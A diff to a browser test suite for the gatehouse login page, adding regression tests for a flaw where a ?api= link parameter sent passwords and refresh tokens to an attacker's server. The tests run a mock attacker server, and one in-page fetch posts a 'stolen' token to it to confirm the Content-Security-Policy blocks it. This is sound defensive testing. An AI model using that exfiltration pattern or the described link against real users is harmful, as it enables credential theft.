@@ -4,7 +4,12 @@
 // silent refresh of an expired access token, the way back to the login form
 // when the refresh is refused, logout, and the human error messages. The
 // page comes from gatehouse itself (embedded, at /); a shorter run loads
-// web/ as static files from another loopback origin with ?api=.
+// web/ as static files from another loopback origin, its API named in
+// config.js as a deployer would. The attack of issue 12 runs against both:
+// a second loopback server plays the attacker that a link's ?api= names,
+// and receives nothing; a session stored for one API is never sent to
+// another; the headers' Content-Security-Policy holds even a script in the
+// page to gatehouse, and the API page (/docs) still renders under its own.
 //
 //   node page.test.mjs <gatehouse binary> <output dir>
 //
@@ -62,12 +67,23 @@ function startGatehouse() {
 }
 
 // web/ as plain static files on another loopback port: the page deployed
-// away from the API, which it then finds through ?api=.
+// away from the API. configure(bases) is the deployer's edit of config.js
+// (README): the apiBases line of web/config.js, and nothing else, changed.
+// No security headers: the page's own meta CSP is all it has.
 async function startStaticServer() {
   const types = { '.html': 'text/html; charset=utf-8', '.css': 'text/css; charset=utf-8',
                   '.js': 'text/javascript; charset=utf-8', '.svg': 'image/svg+xml' };
+  const template = fs.readFileSync(path.join(webDir, 'config.js'), 'utf8');
+  const emptyList = '  apiBases: [],\n';
+  assert.equal(template.split(emptyList).length, 2, 'web/config.js has one empty apiBases line to edit');
+  let config = template;
   const server = http.createServer((req, res) => {
     const url = new URL(req.url, 'http://x');
+    if (req.method === 'GET' && url.pathname === '/config.js') {
+      res.writeHead(200, { 'content-type': types['.js'], 'cache-control': 'no-store' });
+      res.end(config);
+      return;
+    }
     const rel = url.pathname === '/' ? 'index.html' : decodeURIComponent(url.pathname.slice(1));
     const file = path.resolve(webDir, rel);
     if (req.method !== 'GET' || !file.startsWith(webDir + path.sep) || !fs.existsSync(file)) {
@@ -79,7 +95,54 @@ async function startStaticServer() {
   });
   server.listen(0, '127.0.0.1');
   await once(server, 'listening');
-  return { base: `http://127.0.0.1:${server.address().port}`, stop: () => new Promise((r) => server.close(r)) };
+  return {
+    base: `http://127.0.0.1:${server.address().port}`,
+    configure(bases) {
+      config = template.replace(emptyList, `  apiBases: ${JSON.stringify(bases)},\n`);
+    },
+    stop: () => new Promise((r) => server.close(r)),
+  };
+}
+
+// The server a link's ?api= would name: it records every request, lets any
+// origin read its answers (CORS, preflights included), and answers 401 to a
+// refresh, as an attacker would, so that the page forgets the token it sent
+// and reuse detection never fires. It must see nothing at all.
+async function startAttacker() {
+  const requests = [];
+  const server = http.createServer((req, res) => {
+    let body = '';
+    req.on('data', (d) => { body += d; });
+    req.on('end', () => {
+      requests.push({ method: req.method, url: req.url, body });
+      const cors = {
+        'access-control-allow-origin': req.headers.origin || '*',
+        'access-control-allow-methods': 'GET, POST, PUT, DELETE, OPTIONS',
+        'access-control-allow-headers': req.headers['access-control-request-headers'] || '*',
+        'access-control-expose-headers': '*',
+      };
+      if (req.method === 'OPTIONS') {
+        res.writeHead(204, cors).end();
+        return;
+      }
+      const [status, code] = req.url === '/token/refresh' ? [401, 'invalid_refresh_token'] : [404, 'not_found'];
+      res.writeHead(status, { ...cors, 'content-type': 'application/json; charset=utf-8' });
+      res.end(JSON.stringify({ error: { code, message: code.replace(/_/g, ' ') } }));
+    });
+  });
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  let from = 0;
+  const describe = (r) => `${r.method} ${r.url} ${r.body}`.trim();
+  return {
+    base: `http://127.0.0.1:${server.address().port}`,
+    // "METHOD /path body" of what arrived since the last startOver(), and
+    // of everything: assertions show what was sent.
+    seen: () => requests.slice(from).map(describe),
+    everything: () => requests.map(describe),
+    startOver: () => { from = requests.length; },
+    stop: () => new Promise((r) => server.close(r)),
+  };
 }
 
 const crcTable = Array.from({ length: 256 }, (_, n) => {
@@ -166,6 +229,7 @@ async function api(base, method, route, { json, token } = {}) {
 
 let gatehouse;
 let staticServer;
+let attacker;
 let browser;
 let context;
 let page;
@@ -188,6 +252,7 @@ before(async () => {
   assert.ok(png.length > 20 * 1024 && png.length < MAX_IMAGE_BYTES, `fixture PNG is ${png.length} bytes`);
   gatehouse = await startGatehouse();
   staticServer = await startStaticServer();
+  attacker = await startAttacker();
 
   // The page is embedded in the binary and served at / (src/web): the story
   // runs on gatehouse's own origin; ?api= has a test of its own below.
@@ -228,6 +293,7 @@ before(async () => {
 after(async () => {
   await browser?.close();
   await staticServer?.stop();
+  await attacker?.stop();
   await gatehouse?.stop();
 });
 
@@ -241,10 +307,13 @@ async function login(email, password) {
   await form.getByRole('button', { name: 'Log in' }).click();
 }
 
-async function waitForList(count) {
-  await page.waitForFunction((n) => document.querySelectorAll('#users-list > li').length === n &&
-                                    document.getElementById('users-list').getAttribute('aria-busy') === 'false', count);
+async function waitForList(count, on = page) {
+  await on.waitForFunction((n) => document.querySelectorAll('#users-list > li').length === n &&
+                                  document.getElementById('users-list').getAttribute('aria-busy') === 'false', count);
 }
+
+// The page's stored session: {api, refresh_token}, or null.
+const storedSession = (on = page) => on.evaluate(() => JSON.parse(sessionStorage.getItem('gatehouse.session')));
 
 // Makes the next GET /users carry `token` instead of the page's own: what the
 // page sends once its access token has expired. Returns the undo.
@@ -293,6 +362,8 @@ test('the page loads signed out, with labelled forms', async () => {
   await page.locator('#signed-out-view').waitFor({ state: 'visible' });
   assert.equal(await page.locator('#signed-in-view').isVisible(), false);
   assert.equal(await text('#api-base'), gatehouse.base);
+  assert.equal(await text('#page-error'), '');
+  assert.equal(await page.locator('#api-chooser').isVisible(), false);
   // Every input has a label (getByLabel finds each one).
   for (const [form, labels] of [['#login-form', ['E-mail', 'Password']], ['#signup-form', ['Name', 'E-mail', 'Password']]]) {
     for (const label of labels) assert.equal(await page.locator(form).getByLabel(label, { exact: true }).count(), 1, `${form} ${label}`);
@@ -353,8 +424,12 @@ test('login shows the first page of users and keeps only the refresh token in st
   assert.equal(await text('#my-avatar'), 'AL');  // no picture yet: initials
 
   const stored = await page.evaluate(() => ({ session: { ...sessionStorage }, local: { ...localStorage } }));
-  assert.deepEqual(Object.keys(stored.session), ['gatehouse.refresh_token']);
-  assert.match(stored.session['gatehouse.refresh_token'], /^[A-Za-z0-9_-]{43}$/);
+  assert.deepEqual(Object.keys(stored.session), ['gatehouse.session']);
+  // Bound to the API that issued it.
+  const session = JSON.parse(stored.session['gatehouse.session']);
+  assert.deepEqual(Object.keys(session), ['api', 'refresh_token']);
+  assert.equal(session.api, gatehouse.base);
+  assert.match(session.refresh_token, /^[A-Za-z0-9_-]{43}$/);
   assert.deepEqual(stored.local, {});
   // Ada's userId for the checks below, and proof that tokens made by this
   // test (to stand for an expired one) are the server's own kind.
@@ -444,7 +519,7 @@ test('"Load more users" pages on, and Ada is listed with her picture', async () 
 });
 
 test('an expired access token is refreshed silently and the call retried', async () => {
-  const before = await page.evaluate(() => sessionStorage.getItem('gatehouse.refresh_token'));
+  const before = (await storedSession()).refresh_token;
   const restore = await presentOnNextUsersCall(accessToken(adaUser, -120));
   const from = apiCalls.length;
   await page.getByRole('button', { name: 'Reload' }).click();
@@ -453,8 +528,9 @@ test('an expired access token is refreshed silently and the call retried', async
   assert.deepEqual(apiCalls.slice(from), ['GET /users -> 401', 'POST /token/refresh -> 200', 'GET /users -> 200']);
   assert.equal(await page.locator('#signed-in-view').isVisible(), true);
   assert.equal(await text('#users-error'), '');
-  const afterRefresh = await page.evaluate(() => sessionStorage.getItem('gatehouse.refresh_token'));
+  const { api: boundTo, refresh_token: afterRefresh } = await storedSession();
   assert.notEqual(afterRefresh, before, 'the refresh token rotated');
+  assert.equal(boundTo, gatehouse.base);
   // The used one is spent: past the reuse grace it would revoke the session.
   assert.match(afterRefresh, /^[A-Za-z0-9_-]{43}$/);
 });
@@ -469,7 +545,7 @@ test('a reload keeps the session (refresh token from sessionStorage)', async () 
 });
 
 test('logout revokes the session on the server and returns to the login form', async () => {
-  const token = await page.evaluate(() => sessionStorage.getItem('gatehouse.refresh_token'));
+  const token = (await storedSession()).refresh_token;
   await page.getByRole('button', { name: 'Log out' }).click();
   await page.locator('#notice', { hasText: 'logged out' }).waitFor();
   assert.equal(await text('#notice'), 'You are logged out.');
@@ -487,7 +563,7 @@ test('a refused refresh mid-session returns to the login form with the reason', 
   await waitForList(PAGE_SIZE);
   // The session is revoked elsewhere (logout in another client), and then
   // the access token expires.
-  const token = await page.evaluate(() => sessionStorage.getItem('gatehouse.refresh_token'));
+  const token = (await storedSession()).refresh_token;
   assert.equal((await api(gatehouse.base, 'POST', '/logout', { json: { refresh_token: token } })).status, 204);
   const restore = await presentOnNextUsersCall(accessToken(adaUser, -120));
   const from = apiCalls.length;
@@ -502,35 +578,197 @@ test('a refused refresh mid-session returns to the login form with the reason', 
   assert.equal(await page.locator('#users-list > li').count(), 0, 'nothing of the session is left on screen');
 });
 
-test('the page also works as static files on another origin (?api=)', async () => {
+// Fills and submits a form of `on`, then waits for its outcome: the notice
+// `done` or the form's error.
+async function submit(on, formId, fields, button, done) {
+  const form = on.locator(formId);
+  for (const [label, value] of fields) await form.getByLabel(label, { exact: true }).fill(value);
+  await form.getByRole('button', { name: button }).click();
+  await on.waitForFunction(([id, d]) => document.getElementById('notice').textContent.includes(d) ||
+                                        document.querySelector(id + ' .form-error').textContent !== '', [formId, done]);
+}
+
+test('a static copy on another origin talks to the API its config.js names', async () => {
+  staticServer.configure([gatehouse.base + '/']);  // a trailing slash is fine
   const other = await context.newPage();
-  await other.goto(`${staticServer.base}/?api=${encodeURIComponent(gatehouse.base + '/')}`);
+  await other.goto(`${staticServer.base}/`);
   assert.equal(await other.locator('#api-base').innerText(), gatehouse.base);
-  const form = other.locator('#login-form');
-  await form.getByLabel('E-mail').fill(ada.email);
-  await form.getByLabel('Password').fill(ada.password);
-  await form.getByRole('button', { name: 'Log in' }).click();
-  await other.waitForFunction(() => document.querySelectorAll('#users-list > li').length === 20);
+  assert.equal(await other.locator('#page-error').innerText(), '');
+  await submit(other, '#login-form', [['E-mail', ada.email], ['Password', ada.password]], 'Log in', 'Logged in');
+  await waitForList(PAGE_SIZE, other);
   await other.waitForFunction(() => { const i = document.querySelector('#my-avatar img'); return i && i.complete && i.naturalWidth === 160; });
-  await other.goto(`${staticServer.base}/?api=ftp://example.com`);
-  assert.equal(await other.locator('#page-error').innerText(), 'The api parameter must be an http:// or https:// URL.');
+  assert.equal((await storedSession(other)).api, gatehouse.base);
   await other.close();
+
+  staticServer.configure(['ftp://example.com']);
+  const broken = await context.newPage();
+  await broken.goto(`${staticServer.base}/`);
+  assert.equal(await broken.locator('#page-error').innerText(),
+               'config.js lists an API that is not an http:// or https:// base URL: ftp://example.com.');
+  assert.equal(await broken.locator('#signed-out-view').isVisible(), false, 'no form to type a password into');
+  await broken.close();
 });
 
 test('an unreachable server is a clear message, not a hang', async () => {
-  const other = await context.newPage();
   const closedPort = await freePort();
-  await other.goto(`${staticServer.base}/?api=${encodeURIComponent(`http://127.0.0.1:${closedPort}`)}`);
-  const form = other.locator('#login-form');
-  await form.getByLabel('E-mail').fill(ada.email);
-  await form.getByLabel('Password').fill(ada.password);
-  await form.getByRole('button', { name: 'Log in' }).click();
-  await other.locator('#login-error', { hasText: 'Cannot reach' }).waitFor();
+  staticServer.configure([`http://127.0.0.1:${closedPort}`]);
+  const other = await context.newPage();
+  await other.goto(`${staticServer.base}/`);
+  await submit(other, '#login-form', [['E-mail', ada.email], ['Password', ada.password]], 'Log in', 'Logged in');
   assert.equal(await other.locator('#login-error').innerText(),
                `Cannot reach the server at http://127.0.0.1:${closedPort}. Check that it is running and try again.`);
   await other.close();
 });
 
-test('the page requested nothing but loopback', () => {
+// Issue 12, finding 1: https://gatehouse/?api=https://evil made the page
+// post the password and, on every load, the refresh token to evil.
+test('the page from gatehouse ignores ?api=: the attacker it names receives nothing through sign-up, login and reload', async () => {
+  attacker.startOver();
+  const victim = { name: 'Victor Tim', email: 'victor@example.com', password: 'a victim password' };
+  const tab = await context.newPage();
+  await tab.goto(`${gatehouse.base}/?api=${encodeURIComponent(attacker.base)}`);
+  await tab.locator('#signed-out-view').waitFor({ state: 'visible' });
+  await submit(tab, '#signup-form', [['Name', victim.name], ['E-mail', victim.email], ['Password', victim.password]],
+               'Create account', 'Account created');
+  assert.deepEqual(attacker.seen(), [], 'the sign-up went to the attacker');
+  assert.equal(await tab.locator('#notice').innerText(), `Account created for ${victim.email}. Log in with your password.`);
+
+  await submit(tab, '#login-form', [['Password', victim.password]], 'Log in', 'Logged in');
+  assert.deepEqual(attacker.seen(), [], 'the password went to the attacker');
+  await waitForList(PAGE_SIZE, tab);
+  assert.equal(await tab.locator('#my-name').innerText(), victim.name);
+  assert.equal((await storedSession(tab)).api, gatehouse.base);
+
+  // The reload that used to post the refresh token to ?api=.
+  const from = apiCalls.length;
+  await tab.reload();
+  await tab.locator('#signed-in-view').waitFor({ state: 'visible' });
+  await waitForList(PAGE_SIZE, tab);
+  assert.deepEqual(attacker.seen(), [], 'the refresh token went to the attacker');
+  assert.deepEqual(apiCalls.slice(from, from + 2), ['POST /token/refresh -> 200', 'GET /users -> 200'],
+                   'the session goes on at gatehouse');
+  assert.equal(await tab.locator('#api-base').innerText(), gatehouse.base);
+  // Said on the page: someone sent this link on purpose.
+  assert.equal(await tab.locator('#page-error').innerText(),
+               `The link to this page names a server for it to use (?api=); that was ignored. This page talks only to ${gatehouse.base}.`);
+  await tab.close();
+});
+
+test('the page from gatehouse cannot reach another origin even from a script in it (Content-Security-Policy header)', async () => {
+  attacker.startOver();
+  const tab = await context.newPage();
+  const response = await tab.goto(`${gatehouse.base}/`);
+  const outcome = await tab.evaluate(async (target) => {
+    const blocked = new Promise((resolve) => document.addEventListener(
+      'securitypolicyviolation', (e) => resolve(`${e.effectiveDirective} ${e.blockedURI}`), { once: true }));
+    try {
+      await fetch(target + '/token/refresh', { method: 'POST', headers: { 'content-type': 'application/json' },
+                                               body: JSON.stringify({ refresh_token: 'stolen' }) });
+      return 'sent';
+    } catch (e) {
+      return `${e.name}; ${await blocked}`;
+    }
+  }, attacker.base);
+  assert.deepEqual(attacker.seen(), []);
+  assert.equal(outcome, `TypeError; connect-src ${attacker.base}/token/refresh`);
+  assert.match(response.headers()['content-security-policy'], /(^|; )connect-src 'self'(;|$)/);
+  await tab.close();
+});
+
+test('a static copy ignores ?api= too, without the server\'s header to hold it', async () => {
+  attacker.startOver();
+  staticServer.configure([gatehouse.base]);
+  const tab = await context.newPage();
+  await tab.goto(`${staticServer.base}/?api=${encodeURIComponent(attacker.base)}`);
+  await submit(tab, '#login-form', [['E-mail', ada.email], ['Password', ada.password]], 'Log in', 'Logged in');
+  assert.deepEqual(attacker.seen(), [], 'the password went to the attacker');
+  assert.equal(await tab.locator('#api-base').innerText(), gatehouse.base);
+  await waitForList(PAGE_SIZE, tab);
+  await tab.reload();
+  await tab.locator('#signed-in-view').waitFor({ state: 'visible' });
+  await waitForList(PAGE_SIZE, tab);
+  assert.deepEqual(attacker.seen(), []);
+  await tab.close();
+});
+
+test('a session stored for one API is never sent to another, however the copy is reconfigured', async () => {
+  attacker.startOver();
+  staticServer.configure([gatehouse.base]);
+  const tab = await context.newPage();
+  await tab.goto(`${staticServer.base}/`);
+  await submit(tab, '#login-form', [['E-mail', ada.email], ['Password', ada.password]], 'Log in', 'Logged in');
+  await waitForList(PAGE_SIZE, tab);
+  const issued = await storedSession(tab);
+  assert.equal(issued.api, gatehouse.base);
+
+  // Redeployed for another API (the attacker stands in for it): the tab's
+  // stored session is not offered there; the page is signed out.
+  staticServer.configure([attacker.base]);
+  await tab.reload();
+  await tab.locator('#signed-out-view').waitFor({ state: 'visible' });
+  assert.equal(await tab.locator('#api-base').innerText(), attacker.base);
+  assert.deepEqual(attacker.seen(), [], 'a token issued by gatehouse went to another API');
+  assert.deepEqual(await storedSession(tab), issued, 'kept for the API that issued it');
+
+  // Both configured: a chooser, on gatehouse (the stored session's API).
+  staticServer.configure([attacker.base, gatehouse.base]);
+  await tab.reload();
+  await tab.locator('#signed-in-view').waitFor({ state: 'visible' });
+  await waitForList(PAGE_SIZE, tab);
+  const chooser = tab.getByLabel('API', { exact: true });
+  assert.deepEqual(await chooser.locator('option').allInnerTexts(), [attacker.base, gatehouse.base]);
+  assert.equal(await chooser.inputValue(), gatehouse.base);
+  assert.equal(await tab.locator('#api-shown').isVisible(), false);
+  // Switching reloads the page on the other API: signed out there.
+  await Promise.all([tab.waitForEvent('load'), chooser.selectOption(attacker.base)]);
+  await tab.locator('#signed-out-view').waitFor({ state: 'visible' });
+  assert.equal(await tab.getByLabel('API', { exact: true }).inputValue(), attacker.base);
+  assert.deepEqual(attacker.seen(), []);
+  // And back: the session was gatehouse's all along.
+  await Promise.all([tab.waitForEvent('load'), tab.getByLabel('API', { exact: true }).selectOption(gatehouse.base)]);
+  await tab.locator('#signed-in-view').waitFor({ state: 'visible' });
+  await waitForList(PAGE_SIZE, tab);
+  assert.deepEqual(attacker.seen(), []);
+
+  // A refresh token stored by the page before sessions were bound (its API
+  // unknown) is dropped, never sent.
+  staticServer.configure([attacker.base]);
+  await tab.evaluate(() => sessionStorage.setItem('gatehouse.refresh_token', 'A'.repeat(43)));
+  await tab.reload();
+  await tab.locator('#signed-out-view').waitFor({ state: 'visible' });
+  assert.equal(await tab.evaluate(() => sessionStorage.getItem('gatehouse.refresh_token')), null);
+  assert.deepEqual(attacker.seen(), []);
+  await tab.close();
+});
+
+test('the API page (/docs) renders and calls this server under its Content-Security-Policy header', async () => {
+  const tab = await context.newPage();
+  await tab.addInitScript(() => {
+    window.__violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
+  });
+  const consoleErrors = [];
+  tab.on('console', (m) => { if (m.type() === 'error') consoleErrors.push(m.text()); });
+  const response = await tab.goto(`${gatehouse.base}/docs`);
+  assert.match(response.headers()['content-security-policy'], /^default-src 'none'; /);
+  const spec = fs.readFileSync(path.resolve(here, '../../docs/openapi.yaml'), 'utf8');
+  const operations = spec.match(/^ {4}(get|put|post|delete|patch|head):/gm).length;
+  await tab.waitForFunction((n) => document.querySelectorAll('.opblock').length === n, operations);
+  // "Try it out" on GET /health: a fetch to this server, allowed.
+  const health = tab.locator('.opblock-get', { has: tab.locator('[data-path="/health"]') });
+  await health.locator('.opblock-summary').first().click();
+  await health.getByRole('button', { name: 'Try it out' }).click();
+  await health.getByRole('button', { name: 'Execute' }).click();
+  const status = health.locator('.live-responses-table tbody .response-col_status');
+  await status.waitFor();
+  assert.equal((await status.innerText()).trim(), '200');
+  assert.match(await health.locator('.live-responses-table tbody .response-col_description').innerText(), /"status": "ok"/);
+  assert.deepEqual(await tab.evaluate(() => window.__violations), []);
+  assert.deepEqual(consoleErrors, []);
+  await tab.close();
+});
+
+test('the page requested nothing but loopback, and the attacker received nothing at all', () => {
   assert.deepEqual(foreignRequests, []);
+  assert.deepEqual(attacker.everything(), []);
 });
